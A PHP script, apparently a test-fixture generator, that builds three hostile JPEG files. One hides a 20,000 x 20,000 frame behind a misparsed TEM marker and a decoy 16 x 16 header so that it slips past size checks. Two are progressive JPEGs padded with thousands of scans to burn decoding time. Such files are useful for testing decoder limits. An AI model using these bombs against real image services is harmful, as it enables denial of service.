<?php
// bombs.php - hostile JPEGs, made into the folder named by $DIR: small files
// whose decoding would cost gigabytes or many seconds. Each is an 8-bit
// grayscale picture of flat blocks, coded with one-symbol Huffman tables
// (the code "0"), so that the coded data is all zero bytes.
function segment(int $marker, string $data): string
{
    return "\xff" . chr($marker) . pack('n', strlen($data) + 2) . $data;
}

function table(int $class, int $symbol): string
{
    return segment(0xc4, chr($class << 4) . "\x01" . str_repeat("\0", 15) . chr($symbol));
}

function frame(int $marker, int $width, int $height): string
{
    return segment($marker, "\x08" . pack('nn', $height, $width) . "\x01\x01\x11\x00");
}

function scan(int $ss, int $se, int $ah, int $al): string
{
    return segment(0xda, "\x01\x01\x00" . chr($ss) . chr($se) . chr($ah << 4 | $al));
}

$dir = getenv('DIR');
$quant = segment(0xdb, "\0" . str_repeat("\x01", 64));

// lie.jpg: 20,000 x 20,000 pixels (1.6 GB decoded) behind a TEM marker, which
// has no length: a reader that takes its next two bytes (those of the real
// frame header, FF C0) for one skips 65,470 bytes, into an APP1 segment that
// holds a 16 x 16 frame header, which the decoder skips whole.
$head = "\xff\xd8\xff\x01" . frame(0xc0, 20000, 20000);
$app = str_repeat("\0", 65531);
$fake = frame(0xc0, 16, 16);
$app = substr_replace($app, $fake, 6 + 0xffc0 - 2 - (strlen($head) + 4), strlen($fake));
$blocks = 2500 * 2500;  // each coded in two bits: DC difference 0, end of block
file_put_contents("$dir/lie.jpg", $head . segment(0xe1, $app) . $quant . table(0, 0) . table(1, 0)
    . scan(0, 63, 0, 0) . str_repeat("\0", intdiv($blocks * 2, 8)) . "\xff\xd9");

// Progressive, 8192 x 5888 (48 MP): a DC scan, then AC scans of coefficients
// 1 to 63 whose every 16,384 blocks are one end-of-band run (EOB14, 15 bits).
// scans.jpg has 5,000 first scans (0.6 MB, some 25 s of decoding); slow.jpg
// 480 refinement scans (0.14 MB), each of which visits all 63 coefficients of
// every block: some 15 s of decoding.
function progressive(string $quant, int $scans, int $ah): string
{
    $blocks = 1024 * 736;
    $ac = scan(1, 63, $ah, 0) . str_repeat("\0", intdiv($blocks / 16384 * 15 + 7, 8));
    return "\xff\xd8" . $quant . frame(0xc2, 8192, 5888) . table(0, 0) . table(1, 0xe0) . scan(0, 0, 0, 0)
        . str_repeat("\0", $blocks / 8) . str_repeat($ac, $scans) . "\xff\xd9";
}
file_put_contents("$dir/scans.jpg", progressive($quant, 5000, 0));
file_put_contents("$dir/slow.jpg", progressive($quant, 480, 1));
